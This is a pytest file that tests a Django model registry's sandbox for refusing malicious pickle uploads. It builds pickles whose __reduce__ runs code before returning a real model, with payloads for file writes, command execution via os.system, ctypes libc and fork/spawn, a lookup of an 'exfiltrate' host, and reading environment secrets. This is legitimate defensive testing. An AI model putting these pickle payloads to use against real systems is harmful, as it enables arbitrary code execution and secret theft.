"""Pickles that act on the machine while they load, then hand back a real model.

Each one would pass a preflight that only checks for a usable model; the
audit hook in the preflight child stops it at its first write, command or
connection, before the action happens.
"""

from __future__ import annotations

import json
import operator
import os
import pickle
import socket
import sys
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from registry.models import MLModel, ModelVersion
from tests.conftest import forked_marker

pytestmark = pytest.mark.django_db


class _Runs:
    """Unpickles as ``exec(code)``."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


class _Evaluates:
    """Unpickles as the value of ``eval(expression)``."""

    def __init__(self, expression: str) -> None:
        self.expression = expression

    def __reduce__(self):
        return (eval, (self.expression,))


class ActsThenLoads:
    """Runs ``code``, then unpickles as ``model``: a working model with a payload."""

    def __init__(self, code: str, model: Any) -> None:
        self.code = code
        self.model = model

    def __reduce__(self):
        return (operator.itemgetter(1), ((_Runs(self.code), self.model),))


def hostile(tmp_path: Path, name: str, code: str, model: Any) -> Path:
    path = tmp_path / name
    path.write_bytes(pickle.dumps(ActsThenLoads(code, model)))
    return path


def loadmodel(path: Path, slug: str = "hostile") -> str:
    out = StringIO()
    call_command("loadmodel", str(path), "--slug", slug, stdout=out)
    return out.getvalue().strip()


def assert_refused(path: Path, *expected: str) -> str:
    with pytest.raises(CommandError) as refused:
        loadmodel(path)
    message = str(refused.value)
    for text in expected:
        assert text in message
    assert not MLModel.objects.exists()
    assert not ModelVersion.objects.exists()
    return message


def test_control_the_same_pickle_without_an_action_is_accepted(
    tmp_path, numpy_regressor
):
    path = hostile(tmp_path, "plain.pkl", "pass", numpy_regressor)
    assert loadmodel(path) == "hostile v1"


def test_pickle_that_writes_a_file_is_refused_before_the_write(
    tmp_path, numpy_regressor, stored_files
):
    target = tmp_path / "written-by-the-model.txt"
    code = f"open({str(target)!r}, 'w').write('owned')"
    path = hostile(tmp_path, "writes.pkl", code, numpy_regressor)
    message = assert_refused(path, "tried to write", str(target), "while loading")
    assert message.count("\n") == 1  # the sentence, then the detail
    assert not target.exists()
    assert stored_files() == []


@pytest.mark.parametrize(
    "how",
    [
        "os.open({target!r}, os.O_WRONLY | os.O_CREAT)",
        "pathlib.Path({target!r}).touch()",
        "os.mkdir({target!r})",
        "os.symlink('/etc/passwd', {target!r})",
    ],
    ids=["os.open", "touch", "mkdir", "symlink"],
)
def test_pickle_that_creates_a_path_in_other_ways_is_refused(
    tmp_path, numpy_regressor, how
):
    target = tmp_path / "created-by-the-model"
    code = "import os, pathlib; " + how.format(target=str(target))
    path = hostile(tmp_path, "creates.pkl", code, numpy_regressor)
    assert_refused(path, "tried to", str(target))
    assert not os.path.lexists(target)


def test_pickle_that_removes_a_file_is_refused_and_the_file_survives(
    tmp_path, numpy_regressor
):
    victim = tmp_path / "precious.txt"
    victim.write_text("keep me")
    code = f"import os; os.remove({str(victim)!r})"
    path = hostile(tmp_path, "removes.pkl", code, numpy_regressor)
    assert_refused(path, "tried to change the filesystem", "os.remove", str(victim))
    assert victim.read_text() == "keep me"


@pytest.mark.parametrize(
    "how",
    [
        "import os; os.system('touch {marker}')",
        "import subprocess; subprocess.run(['touch', '{marker}'])",
        "import os; os.execv('/bin/touch', ['touch', '{marker}'])",
    ],
    ids=["os.system", "subprocess", "os.execv"],
)
def test_pickle_that_runs_a_command_is_refused_and_the_command_never_runs(
    tmp_path, numpy_regressor, how
):
    marker = tmp_path / "ran"
    code = how.format(marker=marker)
    path = hostile(tmp_path, "runs.pkl", code, numpy_regressor)
    assert_refused(path, "tried to run a command")
    assert not marker.exists()


def test_pickle_that_swallows_the_refusal_is_still_refused(tmp_path, numpy_regressor):
    marker = tmp_path / "second-try"
    code = (
        "import os\n"
        "try:\n    os.system('true')\nexcept BaseException:\n    pass\n"
        f"open({str(marker)!r}, 'w').write('x')"
    )
    path = hostile(tmp_path, "swallows.pkl", code, numpy_regressor)
    assert_refused(path, "tried to run a command")
    assert not marker.exists()


@pytest.fixture
def listener():
    """A TCP server on 127.0.0.1 that records whether anyone connected."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.5)
    yield server
    server.close()


def test_pickle_that_connects_a_socket_is_refused(tmp_path, numpy_regressor, listener):
    port = listener.getsockname()[1]
    code = (
        "import socket; "
        f"socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'hi')"
    )
    path = hostile(tmp_path, "connects.pkl", code, numpy_regressor)
    assert_refused(path, "tried to open a network connection", str(port))
    with pytest.raises(TimeoutError):
        listener.accept()


def test_pickle_that_looks_up_a_host_is_refused(tmp_path, numpy_regressor):
    code = "import socket; socket.getaddrinfo('exfiltrate.example.com', 443)"
    path = hostile(tmp_path, "dns.pkl", code, numpy_regressor)
    assert_refused(path, "tried to open a network connection", "example.com")


def test_pickle_that_loads_a_native_library_is_refused(tmp_path, numpy_regressor):
    library = tmp_path / "libnotloaded.so"
    library.write_bytes(b"\x7fELF")
    code = f"import ctypes; ctypes.CDLL({str(library)!r})"
    path = hostile(tmp_path, "ctypes.pkl", code, numpy_regressor)
    assert_refused(path, "tried to load the native library", str(library))


def test_pickle_that_calls_libc_system_through_ctypes_is_refused(
    tmp_path, numpy_regressor
):
    """The obvious ctypes bypass; the README says why it is not the last one."""
    marker = tmp_path / "ran-through-libc"
    code = (
        "import ctypes\n"
        "libc = [line.split()[-1] for line in open('/proc/self/maps')"
        " if '/libc.so' in line or '/libc-' in line][0]\n"
        f"ctypes.CDLL(libc).system(b'touch {marker}')"
    )
    path = hostile(tmp_path, "libc.pkl", code, numpy_regressor)
    assert_refused(path, "tried to call the native function 'system'")
    assert not marker.exists()


def test_pickle_that_raises_its_own_limits_is_refused(tmp_path, numpy_regressor):
    code = (
        "import resource; "
        "resource.setrlimit(resource.RLIMIT_AS, resource.getrlimit(resource.RLIMIT_AS))"
    )
    path = hostile(tmp_path, "limits.pkl", code, numpy_regressor)
    assert_refused(path, "resource.setrlimit")


def test_model_that_writes_when_it_predicts_is_refused_while_predicting(
    tmp_path, iris_frame
):
    """The guard stays up for the smoke prediction, not only the unpickling."""
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer

    target = tmp_path / "written-at-predict-time"
    model = make_pipeline(FunctionTransformer(), LogisticRegression(max_iter=500))
    model.fit(*iris_frame)
    model[0].func = _Evaluates(f"lambda X: (open({str(target)!r}, 'w'), X)[1]")
    path = tmp_path / "predict-writes.pkl"
    path.write_bytes(pickle.dumps(model))
    assert_refused(path, "tried to write", "while predicting")
    assert not target.exists()


def test_pickle_that_reads_the_environment_finds_no_secrets(
    tmp_path, numpy_regressor, monkeypatch
):
    """Reading is allowed, so the environment is scrubbed instead.

    The file smuggles what it saw out through an attribute the preflight
    records (``classes_``).
    """
    monkeypatch.setenv("DJANGO_SECRET_KEY", "top-secret-key")
    monkeypatch.setenv("DATABASE_URL", "postgres://user:hunter2@db/prod")
    from sklearn.base import clone

    spy = clone(numpy_regressor).fit([[0.0], [1.0]], [0.0, 1.0])
    spy.classes_ = _Evaluates(
        "[k + '=' + v for k, v in sorted(__import__('os').environ.items())]"
    )
    path = tmp_path / "spy.pkl"
    path.write_bytes(pickle.dumps(spy))
    assert loadmodel(path, "spy") == "spy v1"
    seen = ModelVersion.objects.get().classes
    assert any(entry.startswith("PATH=") for entry in seen)
    assert not any(entry.startswith(("DJANGO_", "DATABASE_URL")) for entry in seen)
    assert "hunter2" not in json.dumps(seen)
    assert "top-secret-key" not in json.dumps(seen)


def test_hostile_pickle_leaves_the_web_process_unchanged(tmp_path, numpy_regressor):
    cwd, environment, path_entries = os.getcwd(), dict(os.environ), list(sys.path)
    code = (
        "import os, sys; os.chdir('/'); os.environ['MODELHUB_OWNED'] = '1'; "
        "sys.path.insert(0, '/owned')"
    )
    path = hostile(tmp_path, "meddles.pkl", code, numpy_regressor)
    assert loadmodel(path) == "hostile v1"
    assert os.getcwd() == cwd
    assert dict(os.environ) == environment
    assert sys.path == path_entries


def test_loadmodel_cli_refuses_a_writing_pickle_in_a_sentence_and_a_detail_line(
    manage_cli, tmp_path, numpy_regressor
):
    target = tmp_path / "cli-written.txt"
    code = f"open({str(target)!r}, 'w').write('owned')"
    path = hostile(tmp_path, "writes.pkl", code, numpy_regressor)
    done = manage_cli("loadmodel", str(path), "--slug", "bad")
    assert done.returncode == 1
    assert done.stdout == ""
    sentence, detail = done.stderr.strip().splitlines()
    assert "must not write files" in sentence
    assert "tried to write" in detail
    assert "Traceback" not in done.stderr
    assert not target.exists()
    assert not [p for p in manage_cli.media.rglob("*") if p.is_file()]


def test_admin_upload_of_a_command_running_pickle_shows_the_refusal(
    staff_client, tmp_path, numpy_regressor, stored_files
):
    model = MLModel.objects.create(slug="target")
    marker = tmp_path / "ran-from-admin"
    path = hostile(
        tmp_path, "runs.pkl", f"import os; os.system('touch {marker}')", numpy_regressor
    )
    with open(path, "rb") as handle:
        response = staff_client.post(
            reverse("admin:registry_modelversion_add"),
            {"model": model.pk, "file": handle, "activate": "on"},
        )
    assert response.status_code == 200
    assert "tried to run a command" in response.content.decode()
    assert not ModelVersion.objects.exists()
    assert stored_files() == []
    assert not marker.exists()


def test_pickle_that_writes_a_success_verdict_on_inherited_descriptors_is_refused(
    hostile_files, stored_files
):
    message = assert_refused(hostile_files["forges_verdict"], "could not be loaded")
    assert "forged" not in message
    assert stored_files() == []


def test_pickle_that_forks_through_posixsubprocess_is_refused_before_the_command(
    hostile_files,
):
    marker = forked_marker(hostile_files["forks"])
    assert_refused(hostile_files["forks"], "tried to run a command", "fork_exec")
    assert not marker.exists()


@pytest.mark.parametrize(
    "how",
    [
        "import os\nif os.fork() == 0:\n    os.execv('/bin/touch', ['t', {m!r}])",
        "import os; os.posix_spawn('/bin/touch', ['t', {m!r}], {{}})",
        "import pty; pty.spawn(['/bin/touch', {m!r}])",
        "import os; os.spawnv(os.P_WAIT, '/bin/touch', ['t', {m!r}])",
        "import multiprocessing.util as u; u.spawnv_passfds('/bin/touch', "
        "['t', {m!r}], ())",
    ],
    ids=["fork", "posix_spawn", "pty.spawn", "spawnv", "spawnv_passfds"],
)
def test_pickle_that_creates_a_process_any_way_is_refused(
    tmp_path, numpy_regressor, how
):
    marker = tmp_path / "created-by-a-child-process"
    path = hostile(tmp_path, "process.pkl", how.format(m=str(marker)), numpy_regressor)
    assert_refused(path, "tried to run a command")
    assert not marker.exists()
